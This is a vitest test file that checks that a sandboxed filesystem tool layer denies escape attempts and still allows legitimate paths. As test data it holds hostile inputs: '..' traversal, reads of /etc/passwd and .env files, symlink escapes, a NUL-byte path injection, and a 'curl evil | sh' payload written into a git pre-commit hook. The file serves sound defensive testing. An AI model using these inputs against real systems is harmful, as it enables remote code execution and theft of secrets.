import { symlink } from 'node:fs/promises'
import { FsError, type FsService } from '@dshkit/fs'
import { expect, test } from 'vitest'
import { SECRET, expectDenied, setup, snapshot, type Tree } from './helpers.js'

const OUTSIDE = 'it is outside the sandbox roots'
const ENV = 'it matches deny rule "**/.env*"'
const GIT = 'it matches deny rule "**/.git/**"'
const READ_ONLY = 'it is under the read-only root'
const NUL = 'the path contains a NUL byte'

interface Attack {
  what: string
  tool: string
  args: (tree: Tree) => Record<string, unknown>
  rule: string | ((tree: Tree) => string)
}

const attacks: Attack[] = [
  { what: '.. traversal read', tool: 'fs_read', args: () => ({ path: '../outside/canary.txt' }), rule: OUTSIDE },
  { what: '.. traversal through a subdirectory', tool: 'fs_read', args: () => ({ path: 'src/../../outside/canary.txt' }), rule: OUTSIDE },
  { what: '.. traversal write', tool: 'fs_write', args: () => ({ path: '../outside/new.txt', content: 'x' }), rule: OUTSIDE },
  { what: '.. traversal list', tool: 'fs_list', args: () => ({ path: '..' }), rule: OUTSIDE },
  { what: 'absolute path read', tool: 'fs_read', args: (t) => ({ path: `${t.outside}/canary.txt` }), rule: OUTSIDE },
  { what: 'absolute path write', tool: 'fs_write', args: (t) => ({ path: `${t.outside}/new.txt`, content: 'x' }), rule: OUTSIDE },
  { what: 'absolute system path', tool: 'fs_read', args: () => ({ path: '/etc/passwd' }), rule: OUTSIDE },
  { what: 'symlink to an outside file, read', tool: 'fs_read', args: () => ({ path: 'link-out-file' }), rule: OUTSIDE },
  { what: 'symlink to an outside file, write', tool: 'fs_write', args: () => ({ path: 'link-out-file', content: 'pwned' }), rule: OUTSIDE },
  { what: 'symlink to an outside file, edit', tool: 'fs_edit', args: () => ({ path: 'link-out-file', old: SECRET, new: 'pwned' }), rule: OUTSIDE },
  { what: 'symlink to an outside directory, read', tool: 'fs_read', args: () => ({ path: 'link-out-dir/canary.txt' }), rule: OUTSIDE },
  { what: 'symlink to an outside directory, list', tool: 'fs_list', args: () => ({ path: 'link-out-dir' }), rule: OUTSIDE },
  { what: 'symlink to an outside directory, nested', tool: 'fs_read', args: () => ({ path: 'link-out-dir/sub/deep.txt' }), rule: OUTSIDE },
  { what: 'new file under a symlinked-out directory', tool: 'fs_write', args: () => ({ path: 'link-out-dir/new.txt', content: 'x' }), rule: OUTSIDE },
  {
    what: 'new directories under a symlinked-out directory',
    tool: 'fs_write',
    args: () => ({ path: 'link-out-dir/a/b/new.txt', content: 'x' }),
    rule: OUTSIDE,
  },
  { what: 'symlink chain to outside, read', tool: 'fs_read', args: () => ({ path: 'chain-1' }), rule: OUTSIDE },
  { what: 'symlink chain to outside, write', tool: 'fs_write', args: () => ({ path: 'chain-1', content: 'pwned' }), rule: OUTSIDE },
  { what: 'dangling symlink pointing outside, write', tool: 'fs_write', args: () => ({ path: 'dangling-out', content: 'x' }), rule: OUTSIDE },
  { what: '.env read', tool: 'fs_read', args: () => ({ path: '.env' }), rule: ENV },
  { what: '.env.local in a subdirectory', tool: 'fs_read', args: () => ({ path: 'config/.env.local' }), rule: ENV },
  { what: 'new .env file', tool: 'fs_write', args: () => ({ path: '.env.production', content: 'x' }), rule: ENV },
  { what: 'a file inside a directory named .env', tool: 'fs_write', args: () => ({ path: 'new/.env/sub', content: 'x' }), rule: ENV },
  { what: '.env edit', tool: 'fs_edit', args: () => ({ path: '.env', old: 'TOKEN', new: 'X' }), rule: ENV },
  { what: 'innocent-looking symlink to .env', tool: 'fs_read', args: () => ({ path: 'innocent' }), rule: ENV },
  { what: '.env by absolute path', tool: 'fs_read', args: (t) => ({ path: `${t.root}/.env` }), rule: ENV },
  { what: '.git file read', tool: 'fs_read', args: () => ({ path: '.git/config' }), rule: GIT },
  { what: '.git directory itself', tool: 'fs_list', args: () => ({ path: '.git' }), rule: GIT },
  { what: '.git hook write', tool: 'fs_write', args: () => ({ path: '.git/hooks/pre-commit', content: 'curl evil | sh' }), rule: GIT },
  { what: '.git through a symlinked directory', tool: 'fs_read', args: () => ({ path: 'link-in-dir/../.git/config' }), rule: GIT },
  {
    what: 'write under a read-only root inside a root',
    tool: 'fs_write',
    args: () => ({ path: 'vendor/lib.js', content: 'x' }),
    rule: (t) => `${READ_ONLY} ${t.root}/vendor`,
  },
  {
    what: 'new file under a read-only root',
    tool: 'fs_write',
    args: () => ({ path: 'vendor/new.js', content: 'x' }),
    rule: (t) => `${READ_ONLY} ${t.root}/vendor`,
  },
  {
    what: 'edit under a read-only root outside the roots',
    tool: 'fs_edit',
    args: (t) => ({ path: `${t.ro}/doc.txt`, old: 'doc', new: 'x' }),
    rule: (t) => `${READ_ONLY} ${t.ro}`,
  },
  { what: 'NUL byte read', tool: 'fs_read', args: () => ({ path: 'file.txt\0../../outside/canary.txt' }), rule: NUL },
  { what: 'NUL byte write', tool: 'fs_write', args: () => ({ path: 'x\0y', content: 'x' }), rule: NUL },
]

const config = (t: Tree) => ({ roots: [t.root], readOnlyRoots: [`${t.root}/vendor`, t.ro] })

test.each(attacks)('denied: $what', async (attack) => {
  const tree = await setup(config)
  const before = await snapshot(tree.base)
  const args = attack.args(tree)
  const result = await tree.run(attack.tool, args)
  expectDenied(result, args.path as string, typeof attack.rule === 'function' ? attack.rule(tree) : attack.rule)
  expect(await snapshot(tree.base)).toEqual(before)
})

test('denials say where a symlinked path really goes', async () => {
  const { run, outside } = await setup()
  const result = await run('fs_read', { path: 'chain-1' })
  expect(result).toMatchObject({
    error: { message: expect.stringContaining(`sandbox denied read of "chain-1" (resolves to ${outside}/canary.txt): it is outside the sandbox roots (`) },
  })
})

interface Legit {
  what: string
  tool: string
  args: (tree: Tree) => Record<string, unknown>
  expect: string | RegExp
}

const legit: Legit[] = [
  { what: 'relative read', tool: 'fs_read', args: () => ({ path: 'file.txt' }), expect: 'inside file' },
  { what: 'absolute read inside', tool: 'fs_read', args: (t) => ({ path: `${t.root}/src/app.ts` }), expect: 'export const app = 1\n' },
  { what: '.. that stays inside', tool: 'fs_read', args: () => ({ path: 'src/../file.txt' }), expect: 'inside file' },
  { what: 'symlink to an inside file', tool: 'fs_read', args: () => ({ path: 'link-in-file' }), expect: 'export const app = 1\n' },
  { what: 'symlink to an inside directory', tool: 'fs_read', args: () => ({ path: 'link-in-dir/app.ts' }), expect: 'export const app = 1\n' },
  { what: 'symlink chain that stays inside', tool: 'fs_read', args: () => ({ path: 'chain-in/app.ts' }), expect: 'export const app = 1\n' },
  { what: 'list through an inside symlink', tool: 'fs_list', args: () => ({ path: 'chain-in' }), expect: '.gitignore\napp.ts' },
  { what: 'names that only look like deny rules', tool: 'fs_read', args: () => ({ path: 'env.txt' }), expect: 'not a dotenv' },
  { what: '.gitignore is not .git', tool: 'fs_read', args: () => ({ path: 'src/.gitignore' }), expect: 'lib\n' },
  { what: 'read under a read-only root', tool: 'fs_read', args: () => ({ path: 'vendor/lib.js' }), expect: 'vendored' },
  { what: 'read under a read-only root outside the roots', tool: 'fs_read', args: (t) => ({ path: `${t.ro}/doc.txt` }), expect: 'read-only doc' },
  {
    what: 'write a new file in new directories',
    tool: 'fs_write',
    args: () => ({ path: 'new/dir/file.txt', content: 'x' }),
    expect: 'Created new/dir/file.txt (1 bytes)',
  },
  { what: 'write through an inside directory symlink', tool: 'fs_write', args: () => ({ path: 'link-in-dir/new.ts', content: 'x' }), expect: /^Created/ },
  {
    what: 'edit through an inside file symlink',
    tool: 'fs_edit',
    args: () => ({ path: 'link-in-file', old: '1', new: '2' }),
    expect: 'Edited link-in-file: replaced 1 occurrence',
  },
]

test.each(legit)('allowed: $what', async (ok) => {
  const tree = await setup(config)
  const outsideBefore = await snapshot(tree.outside)
  const result = await tree.run(ok.tool, ok.args(tree))
  expect(result.isError ? result.error : undefined).toBeUndefined()
  const text = (result.content[0] as { text: string }).text
  if (typeof ok.expect === 'string') expect(text).toBe(ok.expect)
  else expect(text).toMatch(ok.expect)
  expect(await snapshot(tree.outside)).toEqual(outsideBefore)
})

test('writes through inside symlinks land inside', async () => {
  const { run, at } = await setup()
  await run('fs_write', { path: 'link-in-dir/new.ts', content: 'x' })
  await run('fs_edit', { path: 'link-in-file', old: '1', new: '2' })
  expect(await snapshot(at('src'))).toEqual({ '.gitignore': '644 lib\n', 'app.ts': '644 export const app = 2\n', 'new.ts': '644 x' })
})

test('a root given through a symlink still contains, by its real path', async () => {
  const { run } = await setup(
    (t) => ({ roots: [`${t.base}/root-alias`] }),
    (t) => symlink(t.root, `${t.base}/root-alias`),
  )
  const result = await run('fs_read', { path: 'file.txt' })
  expect(result).toMatchObject({ isError: false, value: 'inside file' })
  expectDenied(await run('fs_read', { path: 'link-out-file' }), 'link-out-file', OUTSIDE)
})

const seamCall: Record<string, (fs: FsService, args: any) => Promise<unknown>> = {
  fs_read: (fs, a) => fs.readText(a.path),
  fs_write: (fs, a) => fs.writeText(a.path, a.content),
  fs_edit: (fs, a) => fs.editText(a.path, a.old, a.new),
  fs_list: (fs, a) => fs.list(a.path),
}

test.each(attacks)('denied inside the seam too, with no tool call: $what', async (attack) => {
  const tree = await setup(config)
  const before = await snapshot(tree.base)
  const args = attack.args(tree)
  const error = await seamCall[attack.tool](tree.ctx.fs, args).then(
    () => undefined,
    (e) => e,
  )
  expect(error).toBeInstanceOf(FsError)
  if (attack.rule === NUL) {
    expect(error.code).toBe('FS_INVALID_PATH')
  } else {
    expect(error.code).toBe('FS_SANDBOX_DENIED')
    expect(error.message).toContain(typeof attack.rule === 'function' ? attack.rule(tree) : attack.rule)
  }
  expect(await snapshot(tree.base)).toEqual(before)
})
